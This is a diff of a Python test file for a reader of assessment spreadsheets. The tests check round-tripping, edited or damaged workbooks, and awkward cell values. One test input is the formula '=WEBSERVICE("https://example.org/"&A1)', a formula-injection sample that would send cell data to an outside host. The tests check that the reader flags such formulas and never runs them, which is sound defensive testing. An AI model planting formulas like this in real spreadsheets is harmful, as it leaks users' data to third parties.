@@ -73,7 +73,13 @@ LATE_WHEN_ASSESSED = {
 }
 
 
-@pytest.mark.parametrize("name", tuple(DAYS))
+# one with gaps and one that is late; the others are proofs, and read in most tests here
+COME_BACK = ("high_with_gap", "very_high_imminent")
+
+
+@pytest.mark.parametrize(
+    "name", [n if n in COME_BACK else pytest.param(n, marks=pytest.mark.prove) for n in DAYS]
+)
 def test_answers_come_back_as_they_went_in(
     name: str, cases: Cases, workbooks: Mapping[str, bytes]
 ) -> None:
@@ -210,12 +216,6 @@ def test_nasty_texts_come_back_as_they_were_written() -> None:
     check_written_and_read(dict(zip(NARRATIVES, NASTY, strict=False)))
 
 
-@settings(max_examples=1)
-@given(MANY_TEXTS)
-def test_any_text_comes_back_as_it_was_written(texts: dict[Place, str]) -> None:
-    check_written_and_read(texts)
-
-
 @pytest.mark.prove
 @settings(max_examples=20)
 @example(dict(zip(reversed(NARRATIVES), NASTY, strict=False)))
@@ -272,17 +272,6 @@ def test_number_that_is_not_finite_is_not_lost(odd: Assessment) -> None:
 
 def test_date_with_an_offset_is_written_as_text_and_refused(odd: Assessment) -> None:
     assert odd.person.born == UNREADABLE
-
-
-def test_control_characters_that_a_cell_holds_are_said_and_left_out(
-    workbooks: Mapping[str, bytes],
-) -> None:
-    book = opened_to_be_read(workbooks["medium_low"])
-    answer(book, "factors.R1.rationale").value = "a_x0007_b_x000B_c_x000D__x000A_d"
-    reading = read(saved(book), Stage.SUBMISSION)
-    assert reading.assessment is not None
-    assert reading.assessment.factors[0].rationale == "ab\nc\nd"
-    assert [p.code for p in reading.problems] == [Code.CONTROL_CHARACTERS]
 
 
 def renamed(book: Workbook) -> None:
@@ -435,27 +424,34 @@ REMARKS: Mapping[str, set[Code]] = {
 }
 
 
-# one of each kind of change here, the others as proofs
+# one of each kind of change here, those together that do not touch; each alone is a proof
 TRIED = (
-    "renamed",
-    "rows_inserted",
-    "column_inserted_before_the_keys",
-    "table_columns_moved",
-    "labels_rewritten",
-    "unprotected_and_scribbled_on",
-    "other_sheets_added",
+    (
+        *("table_columns_moved", "rows_inserted", "column_inserted_before_the_keys"),
+        "renamed",  # the others go by the names of the sheets
+    ),
+    ("labels_rewritten", "other_sheets_added"),
+    ("unprotected_and_scribbled_on",),
 )
+ALONE = [(what,) for what in DONE if (what,) not in TRIED]
 
 
 @pytest.mark.parametrize(
-    "what", [w if w in TRIED else pytest.param(w, marks=pytest.mark.prove) for w in DONE]
+    "changes",
+    [*TRIED, *(pytest.param(alone, marks=pytest.mark.prove) for alone in ALONE)],
+    ids="-".join,
 )
-def test_answers_are_found_after(what: str, workbooks: Mapping[str, bytes], cases: Cases) -> None:
+def test_answers_are_found_after(
+    changes: tuple[str, ...], workbooks: Mapping[str, bytes], cases: Cases
+) -> None:
     book = opened_to_be_read(workbooks["high_with_gap"])
-    DONE[what](book)
+    for what in changes:
+        DONE[what](book)
     content = saved(book)
     reading = read(content, Stage.SUBMISSION, on=DAYS["high_with_gap"])
-    assert {p.code for p in reading.problems} == REMARKS.get(what, set())
+    assert {p.code for p in reading.problems} == set().union(
+        *(REMARKS.get(what, set()) for what in changes)
+    )
     assert reading.ok
     assert reading.assessment == assemble(cases["high_with_gap"], WHOLE)[0]
     # And each place is given where its answer now stands.
@@ -593,19 +589,23 @@ def column_deleted(book: Workbook) -> tuple[Worksheet, int]:
     return sheet, keys
 
 
-def test_column_that_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
-    book = opened_to_be_read(workbooks["medium_low"])
-    column_deleted(book)
-    assert lost(read(saved(book))) == ["actions"]
-
-
-@pytest.mark.parametrize("rows", [1, 40], ids=["row of keys", "every row"])
-def test_table_that_was_deleted_is_missed(rows: int, workbooks: Mapping[str, bytes]) -> None:
-    """Restricted information must not be lost without a word."""
-    book = opened_to_be_read(workbooks["medium_low"])
+def rows_of_a_table_deleted(book: Workbook, rows: int) -> None:
+    """Restricted information: it must not be lost without a word."""
     sheet, keys = find(book, "restricted")
     assert sheet.cell(keys + 2, 4).value
     sheet.delete_rows(keys, rows)
+
+
+def test_column_and_table_that_were_deleted_are_missed(workbooks: Mapping[str, bytes]) -> None:
+    book = opened_to_be_read(workbooks["medium_low"])
+    column_deleted(book)
+    rows_of_a_table_deleted(book, 40)
+    assert lost(read(saved(book))) == ["actions", "restricted"]
+
+
+def test_table_whose_row_of_keys_was_deleted_is_missed(workbooks: Mapping[str, bytes]) -> None:
+    book = opened_to_be_read(workbooks["medium_low"])
+    rows_of_a_table_deleted(book, 1)
     assert "restricted" in {
         str(p.place) for p in read(saved(book)).problems if p.code is Code.LOST_PART
     }
@@ -706,33 +706,49 @@ VALUES: tuple[tuple[tuple[str, Any, list[Code]], ...], ...] = (
     (
         ("person.born", datetime.fromisoformat("1968-05-14T09:30:00"), [Code.DATE_WITH_TIME]),
         ("factors.R1.rationale", "#N/A", [Code.IS_CELL_ERROR]),
+        ("factors.R2.rationale", "a_x0007_b_x000B_c_x000D__x000A_d", [Code.CONTROL_CHARACTERS]),
         ("review.visit_every", datetime.fromisoformat("2026-01-06"), [Code.NOT_A_NUMBER]),
     ),
     (
         ("person.born", 3_000_000, [Code.IS_CELL_ERROR]),
-        ("factors.R1.rationale", '=HYPERLINK("https://example.org/")', [Code.IS_FORMULA]),
+        ("factors.R1.rationale", '=WEBSERVICE("https://example.org/"&A1)', [Code.IS_FORMULA]),
+        ("factors.R2.rationale", '=HYPERLINK("https://example.org/")', [Code.IS_FORMULA]),
     ),
 )
 
 
-@pytest.mark.parametrize("typed", VALUES, ids=[1, 2, 3])
-def test_cells_are_read_as_they_really_arrive(
-    typed: tuple[tuple[str, Any, list[Code]], ...], workbooks: Mapping[str, bytes]
-) -> None:
-    book = opened_to_be_read(workbooks["medium_low"])
-    for key, value, _ in typed:
-        answer(book, key).value = value
-    problems = [(p.code, str(p.place)) for p in read(saved(book)).problems]
-    said = [(code, key) for key, _, codes in typed for code in codes]
+@pytest.fixture(scope="module")
+def arrived(workbooks: Mapping[str, bytes]) -> list[Reading]:
+    """What is read of these three workbooks."""
+    readings = []
+    for typed in VALUES:
+        book = opened_to_be_read(workbooks["medium_low"])
+        for key, value, _ in typed:
+            answer(book, key).value = value
+        readings.append(read(saved(book)))
+    return readings
+
+
+@pytest.mark.parametrize("number", [0, 1, 2])
+def test_cells_are_read_as_they_really_arrive(number: int, arrived: list[Reading]) -> None:
+    problems = [(p.code, str(p.place)) for p in arrived[number].problems]
+    said = [(code, key) for key, _, codes in VALUES[number] for code in codes]
+    if Code.CONTROL_CHARACTERS in {code for code, _ in said}:  # a warning, and nobody accepted it
+        said.append((Code.WARNINGS_OPEN, "rounds.SO1.warnings_accepted"))
     assert sorted(problems, key=str) == sorted(said, key=str)
 
 
-def test_problem_for_a_formula_quotes_it_and_does_not_run_it(
-    workbooks: Mapping[str, bytes],
+def test_control_characters_that_a_cell_holds_are_said_and_left_out(
+    arrived: list[Reading],
 ) -> None:
-    book = opened_to_be_read(workbooks["medium_low"])
-    answer(book, "factors.R1.rationale").value = '=WEBSERVICE("https://example.org/"&A1)'
-    (problem,) = read(saved(book)).problems
+    """They are said of it once: see above."""
+    reading = arrived[1]
+    assert reading.assessment is not None
+    assert reading.assessment.factors[1].rationale == "ab\nc\nd"
+
+
+def test_problem_for_a_formula_quotes_it_and_does_not_run_it(arrived: list[Reading]) -> None:
+    (problem,) = [p for p in arrived[2].problems if p.place == place_of("factors.R1.rationale")]
     assert problem.typed == '=WEBSERVICE("https://example.org/"&A1)'
     assert FORM_HEADS[1] not in problem.message
 
